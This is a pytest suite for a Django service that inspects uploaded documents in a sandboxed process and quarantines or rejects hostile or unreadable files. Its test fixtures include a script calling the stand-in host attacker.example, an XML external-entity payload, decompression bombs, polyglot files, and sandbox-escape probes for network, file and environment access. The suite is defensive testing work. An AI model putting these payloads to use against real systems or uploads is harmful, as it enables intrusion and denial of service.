"""Received files are looked at in a limited process: the dangerous are shut away, the unclear are not called clean."""

import errno
import os
import socket
from contextlib import suppress
from datetime import timedelta

import pikepdf
import pytest
from django.utils import timezone

from audit.actors import system
from audit.perform import Denied, perform
from compliance.keys.services import KeyUnavailable
from documents import inspection, processes
from documents.inspection import ATTEMPTS, inspect_now
from documents.models import Document, State
from documents.processes import Verdict, inspect
from documents.services import Refused, rendition
from documents.storage import storage
from documents.sweeping import inspect_forgotten
from tests.documents import samples

pytestmark = pytest.mark.django_db


def value(document, fact):
    return document.facts[fact]["value"]


def test_a_photograph_becomes_ready_with_what_was_measured(bring, entries):
    document = inspect_now(bring(samples.photo(800, 500)).pk)
    assert document.state == State.READY
    assert (value(document, "width"), value(document, "height"), document.pages) == (800, 500, 1)
    assert value(document, "location_in_metadata") is True
    assert document.inspected_at is not None and document.claimed_at is None
    assert len(entries("documents.pass_inspection", document.pk)) == 1


def test_a_statement_becomes_ready_with_its_pages(bring):
    document = inspect_now(bring(samples.pdf(7), name="a.pdf").pk)
    assert (document.state, document.pages) == (State.READY, 7)
    assert value(document, "active_content") == []


def test_without_a_scanner_the_facts_say_so(bring):
    assert value(inspect_now(bring().pk), "malware") == "not_scanned"


@pytest.mark.parametrize("what", samples.ACTIVE)
def test_a_pdf_that_could_act_is_quarantined(bring, what):
    document = inspect_now(bring(samples.pdf(change=samples.ACTIVE[what]), name="a.pdf").pk)
    assert (document.state, document.reason) == (State.QUARANTINED, "active_content")
    assert value(document, "active_content") == [what if what != "names" else "javascript"]


def test_a_pdf_with_a_password_is_named_as_such(bring):
    document = inspect_now(bring(samples.pdf_with_password(), name="a.pdf").pk)
    assert (document.state, document.reason) == (State.UNSCANNABLE, "password_protected")


def test_a_pdf_that_opens_without_a_password_is_read_although_it_is_encrypted(bring):
    document = inspect_now(bring(samples.pdf_with_password(user=""), name="a.pdf").pk)
    assert document.state == State.READY
    assert value(document, "encrypted") is True


def _middle_replaced(data):
    return data[:1500] + os.urandom(len(data) - 1700) + data[-200:]


def _tables_broken(data):
    at = data.index(b"\xff\xc4") + 4
    return data[:at] + b"\xff" * 16 + data[at + 16 :]


def _heic_with(made):
    """Whole by its boxes, with something else where its picture is."""
    data = samples.heic()
    at = data.index(b"mdat") + 4
    return data[:at] + made(6000) + data[at + 6000 :]


UNREADABLE = {
    "a JPEG with broken tables": (_tables_broken(samples.photo()), "a.jpg", {"damaged", "truncated"}),
    "a PNG of noise": (_middle_replaced(samples.png()), "a.png", {"damaged", "truncated"}),
    "a PDF of noise": (b"%PDF-1.7\n" + os.urandom(3000) + b"startxref\n9\n%%EOF\n", "a.pdf", {"damaged"}),
    "a PDF without pages": (samples.pdf(0), "a.pdf", {"damaged"}),
    "a JPEG that is only an end": (b"\xff\xd8\xff\xda" + bytes(60) + b"\xff\xd9", "a.jpg", {"damaged"}),
    "a HEIC of noise": (_heic_with(os.urandom), "a.heic", {"damaged"}),
    "a HEIC of zeros": (_heic_with(bytes), "a.heic", {"damaged"}),
    "a PDF of too many pages": (samples.pdf(301), "a.pdf", {"too_many_pages"}),
}


@pytest.mark.parametrize(("data", "name", "reasons"), UNREADABLE.values(), ids=UNREADABLE)
def test_what_cannot_be_read_is_not_called_clean(bring, data, name, reasons):
    document = inspect_now(bring(data, name=name).pk)
    assert document.state == State.UNSCANNABLE
    assert document.reason in reasons


# ---------------------------------------------------------------------------------------------- hostile files
def test_a_picture_bomb_is_stopped_by_its_size_before_it_is_unpacked():
    found = inspect("image/png", iter([samples.png_bomb()]))
    assert (found.verdict, found.reason) == (Verdict.UNSCANNABLE, "too_many_pixels")


def test_a_heic_that_says_it_is_enormous_is_stopped_before_it_is_unpacked():
    found = inspect("image/heic", iter([samples.heic_bomb()]))
    assert (found.verdict, found.reason) == (Verdict.UNSCANNABLE, "too_many_pixels")


def test_a_heic_is_not_opened_where_the_system_cannot_refuse_processes(monkeypatch):
    monkeypatch.setitem(processes._MODULES, "image/heic", "tests.documents.heifs_elsewhere")
    found = inspect("image/heic", iter([samples.heic()]))
    assert (found.verdict, found.reason, found.facts) == (Verdict.UNSCANNABLE, "not_readable_here", {})


def test_a_heic_that_says_less_than_it_is_takes_no_more_than_it_may():
    """Whatever it says of its size, what it is drawn from is bounded."""
    found = inspect("image/heic", iter([samples.heic_bomb(width=8, height=8)]))
    assert found.verdict == Verdict.UNSCANNABLE or found.facts["width"]["value"] <= 400


def test_a_pdf_bomb_does_not_take_this_process_along():
    found = inspect("application/pdf", iter([samples.pdf_bomb()]))
    assert (found.verdict, found.reason) == (Verdict.UNSCANNABLE, "takes_too_much")


def a_program(tmp_path, monkeypatch, body):
    """Stand `body` in for the program that reads a file."""
    package = tmp_path / "program.py"
    package.write_text(
        "import sys\nsys.path.insert(0, sys.argv[1])\n"
        "from documents.sandbox.box import serve\n"
        f"def work(request, data):\n{body}\n"
        "serve(work)\n"
    )
    real = processes.subprocess.Popen

    def popen(arguments, **named):
        return real([arguments[0], "-E", "-s", str(package), str(named["cwd"])], **named)

    monkeypatch.setattr(processes.subprocess, "Popen", popen)


HOSTILE = {
    "takes memory": "    x = bytearray(4 << 30)",
    "takes memory slowly": "    x = []\n    while True: x.append(bytearray(1 << 24))",
    "crashes": "    import ctypes; ctypes.string_at(0)",
    "ends": "    import os; os._exit(0)",
    "answers nonsense": "    import os; os.write(1, b'\\xff' * 100); os._exit(0)",
    "writes a file": "    open('/tmp/mizan-should-not-exist', 'wb').write(b'x' * 10)",
    "starts a program": "    import os; os.posix_spawn('/bin/true', ['true'], {}); return {'verdict': 'pass'}, b''",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_a_program_gone_wrong_means_unscannable(tmp_path, monkeypatch, body):
    a_program(tmp_path, monkeypatch, body)
    found = inspect("image/png", iter([samples.png()]))
    assert (found.verdict, found.reason) == (Verdict.UNSCANNABLE, "takes_too_much")


def test_a_program_that_never_ends_is_ended(tmp_path, monkeypatch):
    monkeypatch.setattr(processes, "SECONDS", 1)
    a_program(tmp_path, monkeypatch, "    import time; time.sleep(60)")
    before = timezone.now()
    assert inspect("image/png", iter([samples.png()])).reason == "takes_too_much"
    assert timezone.now() - before < timedelta(seconds=10)


def test_a_program_that_does_not_read_is_ended(tmp_path, monkeypatch):
    monkeypatch.setattr(processes, "SECONDS", 1)
    real = processes.subprocess.Popen
    monkeypatch.setattr(processes.subprocess, "Popen", lambda arguments, **named: real(["/bin/sleep", "60"], **named))
    assert inspect("image/png", iter([bytes(1 << 22)])).reason == "takes_too_much"


def test_the_program_reaches_no_network(tmp_path, monkeypatch):
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    a_program(
        tmp_path,
        monkeypatch,
        f"    import socket; socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        "    return {'verdict': 'pass', 'reason': '', 'facts': {}}, b''",
    )
    found = inspect("image/png", iter([samples.png()]))
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()
    assert found.verdict == Verdict.UNSCANNABLE


def test_the_program_can_read_no_key(tmp_path, monkeypatch):
    secret = tmp_path / "keys.json"
    secret.write_text("secret")
    a_program(
        tmp_path,
        monkeypatch,
        f"    return {{'verdict': 'pass', 'reason': '', 'facts': {{'found': open({str(secret)!r}).read()}}}}, b''",
    )
    assert inspect("image/png", iter([samples.png()])).verdict == Verdict.UNSCANNABLE


def test_the_program_knows_nothing_of_our_environment(tmp_path, monkeypatch):
    a_program(
        tmp_path,
        monkeypatch,
        "    import os\n    return {'verdict': 'pass', 'reason': '', 'facts': {'names': sorted(os.environ)}}, b''",
    )
    assert inspect("image/png", iter([samples.png()])).facts["names"] == ["LC_ALL"]


def test_the_program_takes_no_time_from_people(tmp_path, monkeypatch):
    body = "    import os\n    return {'verdict': 'pass', 'reason': '', 'facts': {'nice': os.nice(0)}}, b''"
    a_program(tmp_path, monkeypatch, body)
    assert inspect("image/png", iter([samples.png()])).facts["nice"] == min(os.nice(0) + 10, 19)


# ------------------------------------------------------------------------------------------- claims and retries
def test_a_second_inspection_finds_nothing_to_do(bring):
    document = bring()
    assert inspect_now(document.pk).state == State.READY
    assert inspect_now(document.pk) is None


def test_a_document_that_somebody_inspects_is_left_alone(bring):
    document = bring()
    Document.objects.filter(pk=document.pk).update(claimed_at=timezone.now())
    assert inspect_now(document.pk) is None


def _ages(document, **ago):
    moments = {name: timezone.now() - timedelta(seconds=seconds) for name, seconds in ago.items()}
    Document.objects.filter(pk=document.pk).update(**moments)


def test_the_sweep_takes_over_what_a_dead_worker_left(bring):
    document = bring()
    _ages(document, received_at=200, claimed_at=100)
    assert inspect_forgotten() == 0
    _ages(document, claimed_at=121)
    assert inspect_forgotten() == 1
    document = Document.objects.get(pk=document.pk)
    assert (document.state, document.attempts) == (State.READY, 1)


def test_the_sweep_finds_what_no_message_ever_named(bring):
    document = bring()
    assert inspect_forgotten() == 0
    _ages(document, received_at=16)
    assert inspect_forgotten() == 1


def test_after_three_tries_a_document_is_set_aside(bring, monkeypatch):
    document = bring()

    def dies(*arguments, **named):
        raise RuntimeError("the worker was killed")

    monkeypatch.setattr(inspection.processes, "inspect", dies)
    for _ in range(ATTEMPTS):
        _ages(document, received_at=600)
        Document.objects.filter(pk=document.pk).update(claimed_at=None)
        with pytest.raises(RuntimeError):
            inspect_now(document.pk)
    _ages(document, claimed_at=600)
    parked = inspect_now(document.pk)
    assert (parked.state, parked.reason) == (State.UNSCANNABLE, "inspection_failed")


def test_while_the_keys_are_out_of_reach_documents_wait_and_no_try_is_lost(bring, monkeypatch):
    document = bring()

    def out_of_reach(*arguments, **named):
        raise KeyUnavailable("the key file is gone")

    with monkeypatch.context() as broken:
        broken.setattr(inspection, "opened", out_of_reach)
        for _ in range(ATTEMPTS + 2):
            with pytest.raises(KeyUnavailable):
                inspect_now(document.pk)
        _ages(document, received_at=60)
        assert inspect_forgotten() == 0
    waiting = Document.objects.get(pk=document.pk)
    assert (waiting.state, waiting.attempts, waiting.claimed_at) == (State.RECEIVED, 0, None)
    assert inspect_now(document.pk).state == State.READY


def test_a_changed_file_is_quarantined_and_recorded(bring, refusals):
    document = bring()
    path = storage()._path(document.pk)
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    inspected = inspect_now(document.pk)
    assert (inspected.state, inspected.reason) == (State.QUARANTINED, "integrity")
    assert len(refusals("documents.fail_integrity", document.pk)) == 1


def test_a_reading_error_leaves_the_document_waiting(bring, monkeypatch):
    document = bring()

    def fails(*arguments):
        raise OSError(errno.EIO, "Input/output error")

    with monkeypatch.context() as broken:
        broken.setattr(os, "pread", fails)
        with pytest.raises(OSError, match="Input/output"):
            inspect_now(document.pk)
    assert Document.objects.get(pk=document.pk).state == State.RECEIVED


# ----------------------------------------------------------------------------------------------------- rights
def test_only_the_product_itself_says_what_an_inspection_found(bring, alice):
    document = bring()
    for move, inputs in (
        (document.pass_inspection, {"facts": {}}),
        (document.quarantine, {"reason": "active_content", "facts": {}}),
        (document.mark_unscannable, {"reason": "damaged", "facts": {}}),
        (document.destroy, {"reason": "retention"}),
    ):
        with pytest.raises(Denied):
            perform(move, by=alice, **inputs)
    assert Document.objects.get(pk=document.pk).state == State.RECEIVED


def test_what_was_quarantined_never_becomes_ready(bring):
    document = perform(bring().quarantine, by=system(), reason="active_content", facts={})
    assert inspect_now(document.pk) is None
    with pytest.raises(Exception, match="not possible"):
        perform(document.pass_inspection, by=system(), facts={})


# ------------------------------------------------------------------------------------------- what is carried along
SCRIPT = b"<html><script>fetch('http://attacker.example')</script></html>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/">]><x>&e;</x>'


def _with_comment(data):
    """A JPEG whose comment is a web page."""
    return data[:2] + b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT + data[2:]


POLYGLOTS = {
    "a JPEG with a web page in its comment": (_with_comment(samples.photo()), "a.jpg"),
    "a JPEG with a web page behind it": (samples.photo() + SCRIPT, "a.jpg"),
    "a JPEG with a ZIP behind it": (samples.photo() + b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18), "a.jpg"),
    "a JPEG with a ZIP bomb behind it": (samples.photo() + samples.zip_bomb(), "a.jpg"),
    "a PNG with a web page behind it": (samples.png() + SCRIPT, "a.png"),
    "a PDF with a web page before its end": (samples.pdf().replace(b"startxref", SCRIPT + b"\nstartxref"), "a.pdf"),
}


@pytest.mark.parametrize(("data", "name"), POLYGLOTS.values(), ids=POLYGLOTS)
def test_of_a_file_that_is_two_things_nothing_active_is_shown(bring, alice, data, name):
    document = inspect_now(bring(data, name=name).pk)
    if document.state == State.READY:
        shown = rendition(document, by=alice, purpose="test").data
        assert shown[:3] == b"\xff\xd8\xff" and b"script" not in shown and b"PK\x03\x04" not in shown
    else:
        assert document.state == State.UNSCANNABLE


def _with_xml(port):
    def change(document):
        metadata = document.make_stream(XXE.format(port=port).encode())
        metadata.Type, metadata.Subtype = pikepdf.Name.Metadata, pikepdf.Name.XML
        document.Root.Metadata = metadata
        document.Root.URI = pikepdf.Dictionary(Base=f"http://127.0.0.1:{port}/")
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"http://127.0.0.1:{port}/open")
        document.Root.OpenAction = link

    return change


def test_nothing_in_a_file_makes_us_call_anybody(bring, alice):
    """External entities, addresses to open, a base for relative ones: looked at and drawn, nobody is called."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.3)
    data = samples.pdf(change=_with_xml(server.getsockname()[1]))
    document = inspect_now(bring(data, name="a.pdf").pk)
    assert document.state == State.READY
    rendition(document, by=alice, purpose="test")
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()


def test_noise_of_every_kind_harms_nobody(bring):
    """Files with the right beginning and end and noise between: refused or unreadable, never an error."""
    for number in range(4):
        noise = os.urandom(2000 + number)
        for data, name in (
            (b"\xff\xd8\xff\xe0" + noise + b"\xff\xd9", "a.jpg"),
            (samples.png()[:33] + noise + samples.png()[-12:], "a.png"),
            (b"%PDF-1.4\n" + noise + b"\nstartxref\n0\n%%EOF", "a.pdf"),
        ):
            with suppress(Refused):
                document = inspect_now(bring(data, name=name).pk)
                assert document.state in (State.UNSCANNABLE, State.READY)
